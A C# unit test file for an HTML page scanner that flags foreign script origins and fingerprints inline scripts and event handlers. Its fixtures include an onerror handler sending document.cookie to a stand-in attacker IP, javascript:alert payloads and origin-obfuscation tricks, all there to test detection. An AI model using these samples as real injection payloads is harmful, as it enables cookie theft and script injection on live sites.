using System.Text;
using FlaxGuard.Engine.Probes;

namespace FlaxGuard.Engine.Tests.Probes;

/// <summary>Issue 13 part 3: inline scripts and foreign origins of a landing page, fed in chunks of every size.</summary>
[TestClass]
public sealed class HtmlPageScanTests
{
    private static Dictionary<string, string> Scan(string html, int chunk = 7, string host = "192.0.2.10")
    {
        var scan = new HtmlPageScan(new HeadCapture(64), host, "http");
        scan.Reset();
        var bytes = Encoding.UTF8.GetBytes(html);
        for (int i = 0; i < bytes.Length; i += chunk) scan.Write(bytes, i, Math.Min(chunk, bytes.Length - i));
        scan.Finish();
        var result = new Dictionary<string, string>();
        for (int i = 0; i < scan.Keys.Count; i++) result[(string)scan.Keys[i]!] = (string)scan.Values[i]!;
        if (scan.Overflowed) result["overflow"] = "yes";
        if (scan.HandlersOverflowed) result["handler-overflow"] = "yes";
        return result;
    }

    private static string InlineKey(string html) => Scan(html).Keys.Single(k => k.StartsWith("http.script.inline.", StringComparison.Ordinal));

    [TestMethod]
    public void SameOriginScripts_AreNotFacts_ForeignOnesAre()
    {
        var facts = Scan("<script src=\"/js/app.js\"></script><script src='http://192.0.2.10:8080/x.js'></script>" +
                         "<SCRIPT SRC=//cdn.example/a.js></SCRIPT><script src=\"https://Evil.Example:8443/b.js\"></script><script src=\"data:text/javascript,alert(1)\"></script>");
        CollectionAssert.AreEquivalent(new[] { "http.script.origin.cdn.example", "http.script.origin.evil.example:8443", "http.script.origin.data:" }, facts.Keys.ToArray());
        Assert.AreEqual("http", facts["http.script.origin.cdn.example"]);
        Assert.AreEqual("inline", facts["http.script.origin.data:"]);
    }

    [TestMethod]
    [DataRow("<iframe src=\"https://203.0.113.66/ad\"></iframe>", "http.iframe.origin.203.0.113.66")]
    [DataRow("<form method=post action=\"https://203.0.113.66/collect\">", "http.form.origin.203.0.113.66")]
    [DataRow("<base href=\"http://203.0.113.66/\">", "http.base.origin.203.0.113.66")]
    [DataRow("<script src=\" &#104;ttp://203.0.113.66/x.js\"></script>", "http.script.origin.203.0.113.66")]
    [DataRow("<script src=\"\\\\203.0.113.66\\x.js\"></script>", "http.script.origin.203.0.113.66")]
    [DataRow("<script src=\"ht\ttp://203.0.113.66/x.js\"></script>", "http.script.origin.203.0.113.66")]
    [DataRow("<iframe src=\"javascript:alert(1)\"></iframe>", "http.iframe.origin.javascript:")]
    public void TricksBrowsersAccept_StillNameTheForeignOrigin(string html, string key)
    {
        CollectionAssert.AreEqual(new[] { key }, Scan(html).Keys.ToArray());
    }

    [TestMethod]
    [DataRow("<form action=\"/login\">")]
    [DataRow("<form>")]
    [DataRow("<iframe src=\"/status.html\"></iframe>")]
    [DataRow("<!-- <script src=\"http://203.0.113.66/x.js\"></script> -->")]
    [DataRow("<title><script src=\"http://203.0.113.66/x.js\"></script></title>")]
    [DataRow("<style>/* <script src=\"http://203.0.113.66/x.js\"> */</style>")]
    [DataRow("<a href=\"http://203.0.113.66/\">vendor</a>")]
    public void LinksOnTheDevice_CommentsAndText_AreNotFacts(string html)
    {
        Assert.IsEmpty(Scan(html));
    }

    [TestMethod]
    public void InlineScript_IgnoresTokensNoncesTimestampsAndWhiteSpace()
    {
        string Page(string csrf, string nonce, long now, string stamp, string nl) =>
            $"<script nonce=\"{nonce}\">{nl}  window.cfg = {{ csrf: \"{csrf}\", now: {now}, stamp: \"{stamp}\", id: \"{Guid.NewGuid()}\" }};{nl}</script>";
        var a = InlineKey(Page("q8Zr1+/vXyPl0aB3cD4eF5gH6iJ7kL8m", "0f3a9c2e7b1d4f6a8c0e2b4d6f8a0c2e", 1733548920123, "2026-12-07T05:22:00Z", "\n"));
        var b = InlineKey(Page("AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEf", "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b", 1733559999999, "2027-01-01T23:59:59Z", "\r\n\t  "));
        Assert.AreEqual(a, b);
        var c = InlineKey(Page("q8Zr1+/vXyPl0aB3cD4eF5gH6iJ7kL8m", "0f3a9c2e7b1d4f6a8c0e2b4d6f8a0c2e", 1733548920123, "2026-12-07T05:22:00Z", "\n").Replace("window.cfg", "window.evil"));
        Assert.AreNotEqual(a, c);
    }

    [TestMethod]
    public void InlineScript_ChangedCodeOrHostChangesTheDigest_LongIdentifiersStay()
    {
        var a = InlineKey("<script>document.getElementsByTagName('head')[0].appendChild(s); s.src = 'https://cdn.example/a.js';</script>");
        var b = InlineKey("<script>document.getElementsByTagName('head')[0].appendChild(s); s.src = 'https://evil.example/a.js';</script>");
        var c = InlineKey("<script>document.getElementsByClassName('head')[0].appendChild(s); s.src = 'https://cdn.example/a.js';</script>");
        Assert.AreNotEqual(a, b);
        Assert.AreNotEqual(a, c);
    }

    [TestMethod]
    public void InlineScript_EndsOnlyAtItsEndTag_AndChunkingDoesNotMatter()
    {
        const string html = "<script>if (a </b) x = '</scrip'; y = 1 < 2;</script ><p>after</p><script src=http://203.0.113.66/x.js></script>";
        var one = Scan(html, 1);
        Assert.HasCount(2, one);
        foreach (int chunk in new[] { 2, 3, 5, 8, 64, 4096 }) CollectionAssert.AreEquivalent(one.ToList(), Scan(html, chunk).ToList(), "chunk " + chunk);
    }

    [TestMethod]
    public void EmptyScripts_AreNotFacts_AndTheListIsBounded()
    {
        Assert.IsEmpty(Scan("<script>  \n </script>"));
        var many = string.Concat(Enumerable.Range(0, 40).Select(i => $"<script>var v{new string('x', i + 1)} = 1;</script>"));
        var facts = Scan(many);
        Assert.HasCount(HtmlPageScan.MaxItems + 1, facts);
        Assert.AreEqual("yes", facts["overflow"]);
    }

    [TestMethod]
    public void UnterminatedScriptAtTheCut_IsStillDigested()
    {
        Assert.HasCount(1, Scan("<script>var x = 1; // page cut here"));
    }

    [TestMethod]
    [DataRow("<object data=\"http://203.0.113.66/p.swf\"></object>", "http.object.origin.203.0.113.66")]
    [DataRow("<embed src='//203.0.113.66/p.swf'>", "http.object.origin.203.0.113.66")]
    [DataRow("<link rel=\"preload\" as=\"script\" href=\"https://203.0.113.66/a.js\">", "http.link.origin.203.0.113.66")]
    [DataRow("<link href=\"https://203.0.113.66/a.js\" AS=Script rel=\"Preload\">", "http.link.origin.203.0.113.66")]
    [DataRow("<link rel=\"stylesheet modulepreload\" href=\"https://203.0.113.66/m.js\">", "http.link.origin.203.0.113.66")]
    [DataRow("<link rel=import href=http://203.0.113.66/x.html>", "http.link.origin.203.0.113.66")]
    [DataRow("<meta http-equiv=\"Refresh\" content=\"3; URL='https://203.0.113.66/login'\">", "http.refresh.origin.203.0.113.66")]
    [DataRow("<meta content=\"0;url=http://203.0.113.66/\" http-equiv=refresh>", "http.refresh.origin.203.0.113.66")]
    [DataRow("<meta http-equiv=\"refresh\" content=\"0, //203.0.113.66/\">", "http.refresh.origin.203.0.113.66")]
    public void PluginsCodePreloadsAndRefreshes_NameTheForeignOrigin(string html, string key)
    {
        CollectionAssert.AreEqual(new[] { key }, Scan(html).Keys.ToArray());
    }

    [TestMethod]
    [DataRow("<link rel=\"preload\" as=\"style\" href=\"https://cdn.example/a.css\">")]
    [DataRow("<link rel=\"preload\" href=\"https://cdn.example/a.js\">")]
    [DataRow("<link rel=\"icon\" href=\"https://cdn.example/favicon.ico\">")]
    [DataRow("<link rel=\"modulepreload\" href=\"/js/m.js\">")]
    [DataRow("<meta http-equiv=\"refresh\" content=\"30\">")]
    [DataRow("<meta http-equiv=\"refresh\" content=\"5; url=/status.html\">")]
    [DataRow("<meta name=\"refresh\" content=\"0; url=http://203.0.113.66/\">")]
    [DataRow("<object data=\"/plugin/ocx.cab\"></object>")]
    public void LinksThatLoadNoForeignCode_AreNotFacts(string html)
    {
        Assert.IsEmpty(Scan(html));
    }

    [TestMethod]
    public void EventHandlers_AreDigestedLikeInlineScripts_OnAnyElement()
    {
        var facts = Scan("<body onload=\"init()\"><img src=x ONERROR='fetch(\"//203.0.113.66/?\"+document.cookie)'><button onclick=init()>a</button></body>");
        var handlers = facts.Where(f => f.Key.StartsWith("http.handler.inline.", StringComparison.Ordinal)).ToList();
        Assert.HasCount(2, handlers, "the same handler text on two elements is one fact");
        CollectionAssert.AreEquivalent(new[] { "onload", "onerror" }, handlers.Select(h => h.Value).ToArray());
        // Per-visit values are normalised away as in scripts; changed code is not.
        string Key(string html) => Scan(html).Keys.Single();
        Assert.AreEqual(Key("<a onclick=\"go('8f0e1d2c3b4a59687f0e1d2c3b4a5968', 1712345678)\">"), Key("<a onclick=\"go('0a0b0c0d0e0f10111213141516171819', 1799999999)\">"));
        Assert.AreNotEqual(Key("<a onclick=\"go(1)\">"), Key("<a onclick=\"stop(1)\">"));
        Assert.IsEmpty(Scan("<a onclick=\"\" on=\"y\" on-x=\"z\">"));
    }

    [TestMethod]
    public void LongHandler_IsHashedWhole_AndHandlersHaveTheirOwnBound()
    {
        string tail = new string(' ', 3000);
        string a = Scan("<img onerror=\"a();" + tail + "b()\">", 5).Keys.Single();
        string b = Scan("<img onerror=\"a();" + tail + "c()\">", 5).Keys.Single();
        Assert.AreNotEqual(a, b, "a change past the 1 KiB value buffer still changes the digest");
        var many = string.Concat(Enumerable.Range(0, 50).Select(i => $"<a onclick=\"f{new string('x', i + 1)}()\">"));
        var facts = Scan(many + "<script src=\"http://203.0.113.66/x.js\"></script>");
        Assert.AreEqual(HtmlPageScan.MaxHandlers, facts.Keys.Count(k => k.StartsWith("http.handler.inline.", StringComparison.Ordinal)));
        Assert.AreEqual("yes", facts["handler-overflow"]);
        Assert.IsTrue(facts.ContainsKey("http.script.origin.203.0.113.66"), "handlers never crowd out scripts");
        Assert.IsFalse(facts.ContainsKey("overflow"));
    }

    [TestMethod]
    public void HostileMarkup_DoesNotBreakTheScan()
    {
        var rng = new Random(13);
        string alphabet = "<>=\"' /onerrorscriptmetalinkhttp-equivrefreshcontent;url:/\t\n";
        for (int round = 0; round < 200; round++)
        {
            var chars = new char[rng.Next(0, 2000)];
            for (int i = 0; i < chars.Length; i++) chars[i] = alphabet[rng.Next(alphabet.Length)];
            var facts = Scan(new string(chars), rng.Next(1, 64));
            Assert.IsLessThanOrEqualTo(HtmlPageScan.MaxItems + HtmlPageScan.MaxHandlers + 2, facts.Count);
        }
    }
}
